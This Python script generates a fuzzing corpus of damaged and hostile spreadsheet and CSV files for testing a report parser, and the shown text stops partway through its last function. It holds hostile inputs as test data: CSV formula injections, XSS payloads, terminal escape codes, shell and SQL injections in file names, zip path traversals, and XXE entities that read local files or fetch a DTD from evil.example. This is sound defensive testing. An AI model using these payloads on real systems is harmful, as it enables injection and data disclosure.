#!/usr/bin/env python
"""Generate the hostile corpus of issue 17: over a thousand broken or hostile files and how each must end.

    python tests/fuzz/make_hostile.py [OUT_DIR] [--families a,b]

OUT_DIR defaults to a new temporary folder (the corpus is generated, never committed). Output is byte-for-byte
deterministic: one seeded random generator per family, fixed zip times, the project's own template writer for the
well-formed workbooks, and the helpers of tests/fuzz/make_fuzz.py (imported, not copied).

Families (FAMILIES): byte flips and truncations of good .xlsx files, zip mutations, XML mutations, CSV abuse,
hostile cell contents, hostile file names, legacy .xls corruptions.

Manifest (OUT_DIR/manifest.json) entries are those of make_fuzz.py (file, inbox_name / inbox_name_hex, category,
exercises, status, rule, notes) plus:
  family     the family above
  status     "rejected", "loaded", or "loaded-or-rejected": a damaged file that may legitimately still load when
             the damage hit nothing that matters; it must then load with exactly the expected figures
  expected   for files made from a good table: its unit_code, as_of_date and figures, a sorted list of
             [row label, indicator, item type, value]. A file that may load must load as exactly this, or it is
             misread; for a file that must be rejected it tells a load with the original figures from one without
  compare_labels  false where the row labels are hostile text that the parser may normalise: the figures are
             then compared without their labels
  rule       as in make_fuzz.py; null when any rule is a correct rejection
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import functools
import importlib.util
import io
import itertools
import json
import random
import re
import struct
import sys
import tempfile
import warnings
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

HERE = Path(__file__).resolve().parent
REPO = HERE.parent.parent
sys.path.insert(0, str(REPO))

from transforms.core.layout import SHIPPED_REFERENCE  # noqa: E402
from transforms.core.reference import Reference, load_reference  # noqa: E402
from transforms.core.safe_text import CONTROL_CHARACTER  # noqa: E402
from transforms.read.template import FilledRow  # noqa: E402


def _load_make_fuzz():
    """tests/fuzz/make_fuzz.py as a module (tests/fuzz is no package): its zip, XML and workbook helpers."""
    spec = importlib.util.spec_from_file_location("make_fuzz", HERE / "make_fuzz.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


fuzz = _load_make_fuzz()

SEED = 20240317
LOADED, REJECTED, EITHER = "loaded", "rejected", "loaded-or-rejected"
SHEET, STRINGS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
# Headers of the template by text -> (indicator, item type): what a figure under each header is read as.
HEADER_MEANING = {c.header: (c.indicator, c.item_type) for c in load_reference(SHIPPED_REFERENCE).template}
# The columns the generated tables fill: no cross-field rule relates them, so a good table raises no error.
FILLED = ("走访慰问户数（户）", "发放资金（元）", "棉衣（件）", "棉被（床）")
TOWNS = ("犁市镇", "花坪镇", "乐园镇", "东河街道", "新韶镇", "十里亭镇")
# Text that must never drive a terminal, a page or a spreadsheet, wherever it is printed or written.
HOSTILE_TEXTS = (
    "[bold red]红色警报[/]", "[link=file:///etc/passwd]点我[/link]", "[a-z]", "\x1b[31m犁市镇\x1b[0m",
    "\x1b]0;pwned\x07犁市镇", "\x1b[2J\x1b[H清屏", "犁市镇\u202excod.exe", "\u200e犁市镇\u200f", "\u2066犁市镇\u2069",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "&lt;b&gt;粗体&lt;/b&gt;",
    "犁市镇\x07\x08", "犁市\r\n镇", "=cmd|' /C calc'!A0", "+犁市镇", "-犁市镇", "@SUM(1+1)*cmd|' /C calc'!A0",
)
# File names a sender can give (no '/', so no closing markup tags: Linux allows every other byte). Each is used on
# a good workbook, a good CSV and a broken file, so that it is printed both for a load and for a rejection.
HOSTILE_NAMES = (
    "[bold red]x", "[a-z]", "[link=file:evil]点我", "[blink]闪烁", "\x1b[31m红色\x1b[0m", "\x1b]0;title\x07",
    "报表\u202excod", "\u200e报表\u200f", "\u2066报表\u2069", "<script>alert(1)<\\script>", "<img src=x onerror=alert(1)>",
    "名字\n换行", "名字\r回车", "tab\there", "bell\x07", "nul\x7f del", "=cmd|' \\C calc'!A0", "+1", "-1", "@SUM(A1)",
    "..", "...", " 前后空格 ", "%s%n%x", "$(reboot)", "`id`", "'; DROP TABLE raw.submissions; --",
)


# -- tables: what a good file holds, and the figures a load of it must give ------------------------------------
@dataclass
class Table:
    """A good submission: sender, as-of date and rows; what any file made from it must load as, if it loads."""

    sender: str
    unit_code: str
    day: dt.date
    rows: list[FilledRow]

    def expected(self) -> dict:
        figures = sorted([row.label, *HEADER_MEANING[head], float(value)]
                         for row in self.rows for head, value in row.cells.items() if isinstance(value, (int, float)))
        return {"unit_code": self.unit_code, "as_of_date": self.day.isoformat(), "figures": figures}

    def csv_text(self, newline: str = "\n") -> str:
        """The table as Excel saves it as CSV: quoted only where a cell holds a comma, quote or line break."""
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator=newline)
        writer.writerows([[f"填报单位：{self.sender}"], [f"统计截止日期：{self.day.isoformat()}"], ["镇（街道）", *FILLED]])
        writer.writerows([row.label, *(_number(row.cells[h]) if h in row.cells else "" for h in FILLED)]
                         for row in self.rows)
        return buffer.getvalue()


class Tables:
    """Good tables, each for its own (unit, day) of the campaign, so that no load supersedes another and every
    loaded file keeps the state 'loaded'; figures drawn from a seeded generator."""

    def __init__(self, ref: Reference, rng: random.Random):
        self.ref, self.rng = ref, rng
        counties = [u for u in ref.units if u.level == "county"]
        campaign = ref.campaign
        days = [campaign.start_date + dt.timedelta(days=d)
                for d in range((campaign.end_date - campaign.start_date).days + 1)]
        self._slots = itertools.cycle(itertools.product(days, counties))

    def skip(self, count: int) -> None:
        """Start `count` slots further on: each family its own stretch of the campaign."""
        for _ in range(count):
            next(self._slots)

    def next(self, labels: list[str] | None = None) -> Table:
        day, unit = next(self._slots)
        labels = labels or self.rng.sample(TOWNS, self.rng.randint(1, 3))
        rows = []
        for label in labels:
            heads = self.rng.sample(FILLED, self.rng.randint(1, len(FILLED)))
            rows.append(FilledRow(label, {h: self._figure(h) for h in heads}))
        return Table(f"{unit.name}民政局", unit.code, day, rows)

    def _figure(self, head: str) -> int | float:
        if head == "发放资金（元）":
            return self.rng.randint(1000, 90000) + self.rng.choice((0, 0.5))
        return self.rng.randint(1, 900)

    def workbook(self, table: Table) -> bytes:
        return fuzz.template(self.ref, table.sender, table.day, table.rows)


# -- zip surgery: every change rebuilt with make_fuzz's fixed-time writer, or patched in place ---------------------
def members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def rezip(content: bytes, changes: dict[str, bytes | str | None] | None = None,
          method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The workbook with parts replaced (None: removed) or added, written again by make_fuzz.zip_bytes."""
    parts = members(content)
    for name, data in (changes or {}).items():
        if data is None:
            parts.pop(name, None)
        else:
            parts[name] = data
    return fuzz.zip_bytes(parts, method)


def zip_list(parts: list[tuple[str, bytes]]) -> bytes:
    """A zip that may hold the same name twice (make_fuzz.zip_bytes takes a dict, which cannot)."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")  # "Duplicate name": the point of the file
        for name, data in parts:
            info = zipfile.ZipInfo(name, fuzz.ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


# Field offsets in a local file header and in a central directory entry (APPNOTE 4.3.7 and 4.3.12).
LOCAL_FIELDS = {"flags": 6, "method": 8, "crc": 14, "compressed": 18, "size": 22}
CENTRAL_FIELDS = {"flags": 8, "method": 10, "crc": 16, "compressed": 20, "size": 24}


def patch_headers(content: bytes, name: str, where: str, **values: int) -> bytes:
    """Overwrite fields of `name`'s local header, central entry or both (`where`): how a zip lies about a part."""
    out = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        local = archive.getinfo(name).header_offset
    central = next(m.start() for m in re.finditer(rb"PK\x01\x02", content)
                   if content[m.start() + 46:m.start() + 46 + len(name.encode())] == name.encode())
    for field_name, value in values.items():
        size = 2 if field_name in ("flags", "method") else 4
        packed = struct.pack("<H" if size == 2 else "<I", value)
        if where in ("local", "both"):
            out[local + LOCAL_FIELDS[field_name]:local + LOCAL_FIELDS[field_name] + size] = packed
        if where in ("central", "both"):
            out[central + CENTRAL_FIELDS[field_name]:central + CENTRAL_FIELDS[field_name] + size] = packed
    return bytes(out)


def info_of(content: bytes, name: str) -> zipfile.ZipInfo:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.getinfo(name)


# -- the corpus -----------------------------------------------------------------------------------------------
@dataclass
class Corpus:
    """The files generated so far and their manifest entries; names are checked to be unique."""

    ref: Reference
    files: list[tuple[dict, bytes]] = field(default_factory=list)
    _names: set = field(default_factory=set)

    def add(self, family: str, file: str, exercises: str, status: str, content: bytes, rule=None,
            table: Table | None = None, notes: str = "", **extra) -> None:
        inbox = extra.get("inbox_name") or (bytes.fromhex(extra["inbox_name_hex"]) if extra.get("inbox_name_hex")
                                            else file)
        assert file not in self._names and inbox not in self._names, f"name used twice: {file!r} {inbox!r}"
        self._names.update({file, inbox})
        entry = {"file": file, "family": family, "category": family, "exercises": exercises, "status": status,
                 "rule": rule, "notes": notes, **extra}
        if table is not None:
            entry["expected"] = table.expected()
            if status != REJECTED:
                entry.setdefault("unit_code", table.unit_code)
                entry.setdefault("as_of_date", table.day.isoformat())
        self.files.append((entry, content))


def byte_flips(corpus: Corpus, rng: random.Random, tables: Tables, count: int = 220) -> None:
    """1-8 bytes flipped at random offsets of a good workbook: a worn USB stick, a bad mail relay."""
    for n in range(count):
        table = tables.next()
        content = bytearray(tables.workbook(table))
        offsets = sorted(rng.sample(range(len(content)), rng.randint(1, 8)))
        for offset in offsets:
            content[offset] ^= rng.randrange(1, 256)
        corpus.add("byte-flips", f"flip_{n:03d}.xlsx", f"{len(offsets)} byte(s) flipped at {offsets}", EITHER,
                   bytes(content), table=table,
                   notes="a flip in compressed data fails its CRC; one in a date or padding field changes nothing")


def truncations(corpus: Corpus, rng: random.Random, tables: Tables, count: int = 130) -> None:
    """A good workbook cut short at many lengths: the very start, inside the zip directory, the last bytes."""
    for n in range(count):
        table = tables.next()
        content = tables.workbook(table)
        fixed = [0, 1, 2, 3, 4, 30, len(content) - 1, len(content) - 2, len(content) - 21, len(content) - 22,
                 len(content) - 23, len(content) - 46, len(content) // 2]
        keep = fixed[n] if n < len(fixed) else rng.randrange(5, len(content) - 1)
        corpus.add("truncations", f"truncated_{n:03d}.xlsx", f"cut to {keep} of {len(content)} bytes", EITHER,
                   content[:keep], table=table)


def zip_mutations(corpus: Corpus, rng: random.Random, tables: Tables) -> None:
    """The container lies: parts twice, parts missing, methods, sizes and flags that are not true, names that
    climb out of the folder, a zip in a zip, too many parts."""
    add = functools.partial(corpus.add, "zip")
    for n in range(8):
        table = tables.next()
        good = tables.workbook(table)
        parts = members(good)
        cell = figure_cell(parts[SHEET], table)
        altered = {
            SHEET: parts[SHEET].replace(cell.group(0), cell.group(0).replace(b"<v>", b"<v>7777"), 1),
            STRINGS: parts[STRINGS].replace(table.rows[0].label.encode(), "十里亭镇甲".encode(), 1),
            BOOK: parts[BOOK].replace("统计表".encode(), "统计表二".encode()),
        }
        for name, other in altered.items():
            assert other != parts[name], name
            short = Path(name).stem
            listed = list(parts.items())
            add(f"dup_{short}_second_differs_{n}.xlsx", f"{name} twice, the second copy different", REJECTED,
                zip_list(listed + [(name, other)]), table=table,
                notes="which copy a reader takes is the reader's choice: ambiguous")
            add(f"dup_{short}_first_differs_{n}.xlsx", f"{name} twice, the first copy different", REJECTED,
                zip_list([(name, other)] + listed), table=table)
    required = ("[Content_Types].xml", "_rels/.rels", "xl/_rels/workbook.xml.rels", BOOK, SHEET, STRINGS)
    optional = ("docProps/core.xml", "docProps/app.xml", "xl/theme/theme1.xml", "xl/styles.xml")
    for n in range(2):
        for name in required + optional:
            table = tables.next()
            status = REJECTED if name in required else EITHER
            short = re.sub(r"\W", "_", Path(name).name)
            add(f"missing_{short}_{n}.xlsx", f"{name} left out", status,
                rezip(tables.workbook(table), {name: None}), table=table)
    for n, method in enumerate((1, 6, 9, 12, 14, 19, 93, 95, 98, 99, 0)):
        table = tables.next()
        good = tables.workbook(table)
        add(f"method_lies_{method}_{n}.xlsx", f"the sheet says compression method {method}; its data is deflated",
            REJECTED, patch_headers(good, SHEET, "both", method=method), table=table)
    for n, method in enumerate((zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA)):
        table = tables.next()
        status = LOADED if method == zipfile.ZIP_STORED else EITHER
        add(f"method_honest_{method}.xlsx", f"every part compressed with method {method}, honestly declared", status,
            rezip(tables.workbook(table), method=method), table=table,
            notes="stored is what some writers use; bzip2 and LZMA are valid zip, not allowed by OOXML")
    for n, (where, what) in enumerate(itertools.product(("local", "central", "both"),
                                                       ("smaller", "larger", "crc", "compressed"))):
        table = tables.next()
        good = tables.workbook(table)
        info = info_of(good, SHEET)
        values = {"smaller": {"size": info.file_size // 3}, "larger": {"size": info.file_size * 5 + 17},
                  "crc": {"crc": info.CRC ^ 0x5A5A5A5A}, "compressed": {"compressed": info.compress_size + 64}}[what]
        add(f"lying_{what}_{where}.xlsx", f"the sheet's {where} header lies: {what} ({values})", REJECTED,
            patch_headers(good, SHEET, where, **values), table=table)
    for n in range(4):
        table = tables.next()
        sheet = members(tables.workbook(table))[SHEET]
        deflated = zlib.compress(sheet)[2:-4]
        declared = (1, len(sheet) // 2, len(sheet) * 100, 2**32 - 1)[n]
        add(f"raw_zip_sheet_declared_{declared}.xlsx", f"a sheet-only zip written by hand whose sheet declares "
            f"{declared} bytes (it has {len(sheet)})", REJECTED,
            fuzz.raw_zip([("[Content_Types].xml", zlib.compress(fuzz.CT.encode())[2:-4], len(fuzz.CT.encode()),
                           zlib.crc32(fuzz.CT.encode()), 8), (SHEET, deflated, declared, zlib.crc32(sheet), 8)]))
    for n, (where, name) in enumerate(itertools.product(("central", "local", "both"), (SHEET, "docProps/app.xml"))):
        table = tables.next()
        add(f"encrypted_flag_{where}_{Path(name).stem}.xlsx", f"{name}'s encrypted flag set ({where} header) on "
            "plain data", REJECTED, patch_headers(tables.workbook(table), name, where, flags=1),
            rule="encrypted-file" if where != "local" else None, table=table)
    traversals = ("../../warmline-traversal-0", "/tmp/warmline-traversal-1", "..\\..\\warmline-traversal-2",
                  "xl/../../../warmline-traversal-3", "xl/worksheets/../../../../warmline-traversal-4",
                  "./../warmline-traversal-5", "C:/warmline-traversal-6", "xl/media/..\\..\\..\\warmline-traversal-7")
    for n, evil in enumerate(traversals):
        table = tables.next()
        add(f"traversal_{n}.xlsx", f"an extra part named {evil!r}", REJECTED,
            zip_list(list(members(tables.workbook(table)).items()) + [(evil, b"owned")]), table=table,
            notes="no spreadsheet writes such a name; nothing may be written outside the home (checked)")
    for n in range(6):
        table = tables.next()
        good = tables.workbook(table)
        if n < 2:
            wrapper = {"inner.xlsx": good} if n == 0 else {"[Content_Types].xml": fuzz.CT, "inner.xlsx": good}
            content, what = fuzz.zip_bytes(wrapper), "a workbook in a zip"
        elif n < 4:
            content, what = rezip(good, {SHEET: good}), "a workbook's bytes as its own sheet part"
        else:
            content, what = fuzz.zip_bytes({"a.zip": fuzz.zip_bytes({"b.zip": fuzz.zip_bytes({"c.xlsx": good})})}), \
                "a workbook three zips deep"
        add(f"nested_zip_{n}.xlsx", what, REJECTED, content, table=table)
    for parts in (10_001, 30_000):
        table = tables.next()
        add(f"members_{parts}.xlsx", f"a good workbook plus junk parts, {parts} in all", REJECTED,
            rezip(tables.workbook(table), {f"xl/media/junk{i}.xml": "<a/>" for i in range(parts - 10)}),
            rule="unsafe-file", table=table)
    for parts in (2_000, 9_990):
        table = tables.next()
        junk = {f"xl/media/junk{i}.xml": "<a/>" for i in range(parts - 10)}
        add(f"members_{parts}_under_limit.xlsx", f"a good workbook plus junk parts, {parts} in all (under the "
            "limit)", EITHER, rezip(tables.workbook(table), junk), table=table)


def _number(value) -> str:
    """A figure as xlsxwriter writes it into <v> (and as a CSV holds it)."""
    return str(value) if isinstance(value, float) and not value.is_integer() else str(int(value))


def figure_cell(sheet: bytes, table: Table) -> re.Match:
    """The number cell (no t= attribute: not a shared-string index) of the table's first figure."""
    value = _number(table.rows[0].cells[next(iter(table.rows[0].cells))]).encode()
    found = re.search(rb'<c r="([A-Z]+\d+)"( s="\d+")?><v>%s</v></c>' % re.escape(value), sheet)
    assert found, value
    return found


def xml_mutations(corpus: Corpus, rng: random.Random, tables: Tables) -> None:
    """The parts' XML is broken or strange: entities, unclosed tags, namespaces, DOCTYPEs, UTF-16, control
    characters, formula errors and non-numbers in figure cells."""
    def mutate(file: str, exercises: str, status: str, change: Callable[[dict, Table], dict], rule=None,
               compare_labels: bool = True, notes: str = "") -> None:
        table = tables.next()
        good = tables.workbook(table)
        parts = members(good)
        changed = change(dict(parts), table)
        assert all(parts.get(name) != data for name, data in changed.items()), f"{file}: nothing changed"
        extra = {} if compare_labels else {"compare_labels": False}
        corpus.add("xml", file, exercises, status, rezip(good, changed), rule, table, notes, **extra)

    def in_figure(text: bytes) -> Callable[[dict, Table], dict]:
        """The first figure cell's <v> becomes `text`."""
        def change(parts, table):
            cell = figure_cell(parts[SHEET], table).group(0)
            return {SHEET: parts[SHEET].replace(cell, re.sub(rb"<v>.*</v>", b"<v>" + text + b"</v>", cell), 1)}
        return change

    def in_string(old: Callable[[Table], str], new: bytes) -> Callable[[dict, Table], dict]:
        return lambda parts, table: {STRINGS: parts[STRINGS].replace(b"<t>" + old(table).encode() + b"</t>",
                                                                     b"<t>" + new + b"</t>", 1)}

    label = lambda table: table.rows[0].label  # noqa: E731
    header = lambda table: next(iter(table.rows[0].cells))  # noqa: E731
    for n, entity in enumerate((b"&bogus;", b"&nbsp;", b"&copy;", b"&#xZZ;", b"&;", b"&amp", b"&lt", b"&#;")):
        mutate(f"entity_in_figure_{n}.xlsx", f"an undefined or broken entity {entity!r} in a figure cell", REJECTED,
               lambda parts, table, e=entity: in_figure(b"12" + e)(parts, table))
        mutate(f"entity_in_label_{n}.xlsx", f"an undefined or broken entity {entity!r} in a row label", REJECTED,
               lambda parts, table, e=entity: in_string(label, label(table).encode() + e)(parts, table))
        mutate(f"entity_in_header_{n}.xlsx", f"an undefined or broken entity {entity!r} in a header", REJECTED,
               lambda parts, table, e=entity: in_string(header, header(table).encode() + e)(parts, table))
    unclosed = ((SHEET, b"</row>"), (SHEET, b"</c>"), (SHEET, b"</v>"), (SHEET, b"</sheetData>"),
                (SHEET, b"</worksheet>"), (STRINGS, b"</t>"), (STRINGS, b"</si>"), (STRINGS, b"</sst>"),
                (BOOK, b"</sheets>"), (BOOK, b"</workbook>"))
    for n, (part, tag) in enumerate(unclosed):
        for which in (1, -1):
            def drop(parts, table, part=part, tag=tag, which=which):
                data = parts[part]
                at = data.find(tag) if which == 1 else data.rfind(tag)
                return {part: data[:at] + data[at + len(tag):]}
            mutate(f"unclosed_{Path(part).stem}_{tag.strip(b'</>').decode()}_{'first' if which == 1 else 'last'}.xlsx",
                   f"the {'first' if which == 1 else 'last'} {tag.decode()} of {part} left out", REJECTED, drop)
    main_ns = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    for n, (part, other) in enumerate(itertools.product((SHEET, STRINGS, BOOK),
                                                        (b"http://evil.example/ns", b"urn:x", b""))):
        mutate(f"namespace_{Path(part).stem}_{n}.xlsx", f"{part} in namespace {other!r} instead of spreadsheetml",
               REJECTED, lambda parts, table, p=part, o=other: {p: parts[p].replace(main_ns, o, 1)},
               notes="elements of another namespace are not cells: read as cells, the file would be misread")
    mutate("namespace_prefixed_sheet.xlsx", "the sheet written with an x: prefix for spreadsheetml (valid XML, "
           "same meaning)", LOADED, lambda parts, table: {SHEET: _prefixed(parts[SHEET])})
    doctypes = (b'<!DOCTYPE worksheet [<!ENTITY n "7">]>', b"<!DOCTYPE worksheet>",
                b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
                b'<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
                b'<!DOCTYPE worksheet [<!ENTITY a "&#38;#60;">]>')
    for n, doctype in enumerate(doctypes):
        for part in (SHEET, STRINGS):
            mutate(f"doctype_{Path(part).stem}_{n}.xlsx", f"{part} with {doctype.decode()}", REJECTED,
                   lambda parts, table, p=part, d=doctype: {p: parts[p].replace(b"?>\n", b"?>\n" + d, 1)},
                   rule="unsafe-file")
    mutate("doctype_entity_used_in_figure.xlsx", "a DOCTYPE entity standing for a figure", REJECTED,
           lambda parts, table: {SHEET: in_figure(b"&n;")(parts, table)[SHEET].replace(
               b"?>\n", b'?>\n<!DOCTYPE worksheet [<!ENTITY n "9999">]>', 1)}, rule="unsafe-file")
    for part, codec in itertools.product((SHEET, STRINGS, BOOK), ("utf-16", "utf-16-le", "utf-16-be")):
        def utf16(parts, table, part=part, codec=codec):
            text = parts[part].decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
            bom = {"utf-16": b"", "utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}[codec]
            return {part: bom + text.encode(codec)}
        mutate(f"utf16_{Path(part).stem}_{codec}.xlsx", f"{part} encoded as {codec.upper()} with a BOM, declared so",
               REJECTED, utf16, rule="malformed-xml",
               notes="XML 1.0 and OOXML allow UTF-16 parts, but the reader reads UTF-8 only: refused, saying so "
                     "(not 'no reporting unit found')")
    controls = ((b"\x00", "NUL"), (b"\x1b[31m", "ESC"), (b"\x07", "BEL"), (b"\x0c", "form feed"),
                (b"&#0;", "&#0;"), (b"&#27;", "&#27;"), (b"&#x1b;", "&#x1b;"))
    for n, (raw, name) in enumerate(controls):
        mutate(f"control_{n}_in_label.xlsx", f"{name} inside a row label: not allowed in XML 1.0", REJECTED,
               lambda parts, table, r=raw: in_string(label, r + label(table).encode())(parts, table))
        mutate(f"control_{n}_in_header.xlsx", f"{name} inside a header: not allowed in XML 1.0", REJECTED,
               lambda parts, table, r=raw: in_string(header, header(table).encode() + r)(parts, table))
    for n, escape in enumerate((b"_x001B_[31m", b"_x0000_", b"_x202E_", b"_x0007_")):
        mutate(f"ooxml_escape_{n}_in_label.xlsx", f"{escape.decode()} (OOXML's escape for a control character) in a "
               "row label: valid XML, but text no clerk types that reads otherwise than it looks", REJECTED,
               lambda parts, table, e=escape: in_string(label, e + label(table).encode())(parts, table),
               rule="control-character")
    for n, error in enumerate((b"#DIV/0!", b"#REF!", b"#VALUE!", b"#N/A", b"#NAME?", b"#NUM!", b"#NULL!")):
        for formula in (b"", b"<f>1/0</f>"):
            def error_cell(parts, table, error=error, formula=formula):
                cell = figure_cell(parts[SHEET], table)
                new = b'<c r="%s"%s t="e">%s<v>%s</v></c>' % (cell.group(1), cell.group(2) or b"", formula, error)
                return {SHEET: parts[SHEET].replace(cell.group(0), new, 1)}
            mutate(f"error_cell_{n}{'_formula' if formula else ''}.xlsx", f"a figure cell holding {error.decode()}",
                   REJECTED, error_cell, rule="formula-error")
    for n, text in enumerate((b"NaN", b"nan", b"inf", b"-inf", b"Infinity", b"1e999", b"-1e400")):
        mutate(f"not_a_number_{n}.xlsx", f"a number cell holding {text.decode()}", REJECTED, in_figure(text),
               rule="not-a-number")
    for n, text in enumerate((b"0x10", b"1,000", b"12abc", b"", b" ")):
        mutate(f"bad_number_{n}.xlsx", f"a number cell holding {text.decode()!r}", REJECTED, in_figure(text),
               notes="a figure the cell does not hold cannot be guessed")


def _prefixed(sheet: bytes) -> bytes:
    """Every element of a sheet part written as x:name, the namespace bound to x (valid, same meaning)."""
    text = re.sub(rb"<(/?)([A-Za-z]+)(?=[\s>/])", rb"<\1x:\2", sheet)
    return text.replace(b' xmlns="', b' xmlns:x="', 1)


def csv_abuse(corpus: Corpus, rng: random.Random, tables: Tables) -> None:
    """CSV files as senders make them and as attackers do: encodings, BOMs, line ends, quotes, sizes, NUL."""
    def add(file, exercises, status, make: Callable[[Table], bytes], rule=None, compare_labels=True, labels=None,
            notes=""):
        table = tables.next(labels)
        extra = {} if compare_labels else {"compare_labels": False}
        corpus.add("csv", file, exercises, status, make(table), rule, table, notes, **extra)

    for n in range(4):
        for newline, name in (("\n", "lf"), ("\r\n", "crlf"), ("\r", "cr")):
            add(f"newline_{name}_{n}.csv", f"lines ended by {newline!r}", LOADED,
                lambda t, nl=newline: t.csv_text(newline=nl).encode("utf-8"),
                notes="CR alone is what old Mac Excel writes")
        add(f"newline_mixed_{n}.csv", "lines ended by LF, CRLF and CR in turn", LOADED,
            lambda t: _mixed_newlines(t.csv_text()).encode("utf-8"))
        for encoding in ("utf-8", "utf-8-sig", "gbk", "gb18030"):
            add(f"encoding_{encoding}_{n}.csv", f"the table in {encoding}", LOADED,
                lambda t, e=encoding: t.csv_text().encode(e))
        add(f"encoding_gb18030_four_byte_{n}.csv", "GB18030 with a four-byte character (U+20000) in a label",
            LOADED, lambda t: t.csv_text().encode("gb18030"), labels=["犁市镇\U00020000"])
        add(f"bom_gb18030_{n}.csv", "a GB18030 BOM (84 31 95 33) before GB18030 text", LOADED,
            lambda t: b"\x84\x31\x95\x33" + t.csv_text().encode("gb18030"))
        add(f"bom_twice_{n}.csv", "a UTF-8 BOM written twice", EITHER,
            lambda t: b"\xef\xbb\xbf" + t.csv_text().encode("utf-8-sig"))
        for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
            add(f"encoding_{encoding}_{n}.csv", f"the table in {encoding}", REJECTED,
                lambda t, e=encoding: t.csv_text().encode(e), rule="csv-encoding")
        add(f"encoding_mixed_{n}.csv", "the header lines in UTF-8, the rows in GBK", REJECTED,
            lambda t: _mixed_encoding(t.csv_text()), notes="two encodings in one file: one of them reads as nonsense")
        for at in ("start", "middle"):
            add(f"nul_in_label_{at}_{n}.csv", f"a NUL byte at the {at} of a row label", REJECTED,
                lambda t, at=at: _with_nul(t, at).encode("utf-8"))
        add(f"xlsx_named_csv_{n}.csv", "a workbook's bytes named .csv", REJECTED, lambda t: tables.workbook(t))
        add(f"huge_field_label_{n}.csv", "a 1 MB row label", REJECTED,
            lambda t: t.csv_text().replace(t.rows[0].label, t.rows[0].label + "镇" * 350_000, 1).encode("utf-8"))
        add(f"huge_field_quoted_{n}.csv", "a 1 MB quoted field after the table", REJECTED,
            lambda t: (t.csv_text() + '"' + "x" * 2**20 + '",1\n').encode("utf-8"))
        add(f"columns_50000_duplicate_{n}.csv", "a header of 50,000 columns, all the same indicator", REJECTED,
            lambda t: _wide_header(t, duplicate=True).encode("utf-8"))
        add(f"columns_50000_blank_{n}.csv", "the table with 50,000 further empty header columns", EITHER,
            lambda t: _wide_header(t, duplicate=False).encode("utf-8"))
        for k, broken in enumerate(_unbalanced_quotes()):
            swallows = broken.__name__ != "at_end"
            add(f"quotes_unbalanced_{k}_{n}.csv", f"an unbalanced quote: {broken.__doc__}",
                REJECTED if swallows else EITHER, lambda t, b=broken: b(t).encode("utf-8"),
                notes="the quote swallows the rows after it: loading what is left would drop figures" if swallows
                else "after the table: it swallows nothing")
        for k, label in enumerate(("=cmd|' /C calc'!A0", "+犁市镇", "-花坪镇", "@SUM(1+1)", "=HYPERLINK(\"x\")")):
            add(f"formula_label_{k}_{n}.csv", f"a row label {label!r}: text, loaded as text", LOADED,
                lambda t: t.csv_text().encode("utf-8"), labels=[label, TOWNS[k]], compare_labels=False)
        for k, text in enumerate(("=1+2", "=SUM(B4:B5)", "=cmd|' /C calc'!A0")):
            add(f"formula_figure_{k}_{n}.csv", f"a figure cell holding {text!r}", REJECTED,
                lambda t, text=text: _first_figure_as(t, text).encode("utf-8"), rule="not-a-number")


def _mixed_newlines(text: str) -> str:
    lines = text.split("\n")[:-1]
    return "".join(line + ("\n", "\r\n", "\r")[i % 3] for i, line in enumerate(lines))


def _mixed_encoding(text: str) -> bytes:
    lines = text.splitlines(keepends=True)
    return "".join(lines[:3]).encode("utf-8") + "".join(lines[3:]).encode("gbk")


def _with_nul(table: Table, at: str) -> str:
    label = table.rows[0].label
    return table.csv_text().replace(label, "\x00" + label if at == "start" else label[:1] + "\x00" + label[1:], 1)


def _wide_header(table: Table, duplicate: bool) -> str:
    lines = table.csv_text().split("\n")
    extra = FILLED[0] if duplicate else ""
    lines[2] += ("," + extra) * (50_000 - len(FILLED) - 1)
    return "\n".join(lines)


def _first_figure_as(table: Table, text: str) -> str:
    lines = table.csv_text().split("\n")
    cells = lines[3].split(",")
    first = next(i for i, c in enumerate(cells) if i and c)
    cells[first] = f'"{text}"' if "," in text else text
    lines[3] = ",".join(cells)
    return "\n".join(lines)


def _unbalanced_quotes() -> list[Callable[[Table], str]]:
    def before_label(t):
        """before the first row label"""
        return t.csv_text().replace(t.rows[0].label, '"' + t.rows[0].label, 1)

    def before_header(t):
        """before the header row"""
        return t.csv_text().replace("镇（街道）", '"镇（街道）', 1)

    def before_sender(t):
        """before the sender line"""
        return '"' + t.csv_text()

    def at_end(t):
        """a last line of one quote"""
        return t.csv_text() + '"\n'
    return [before_label, before_header, before_sender, at_end]


def hostile_content(corpus: Corpus, rng: random.Random, tables: Tables) -> None:
    """Good tables carrying text meant for a terminal, a page or a spreadsheet: loaded and shown harmlessly, or,
    where the text holds control characters or direction controls (which no clerk types and which make it read
    otherwise than it looks), refused naming the cell."""
    for n, text in enumerate(HOSTILE_TEXTS):
        status, rule = (REJECTED, "control-character") if CONTROL_CHARACTER.search(text) else (LOADED, None)
        table = tables.next([text, TOWNS[n % len(TOWNS)]])
        corpus.add("hostile-content", f"label_{n:02d}.xlsx", f"a row label {text!r}", status,
                   tables.workbook(table), rule=rule, table=table, compare_labels=False)
        table = tables.next([text, TOWNS[n % len(TOWNS)]])
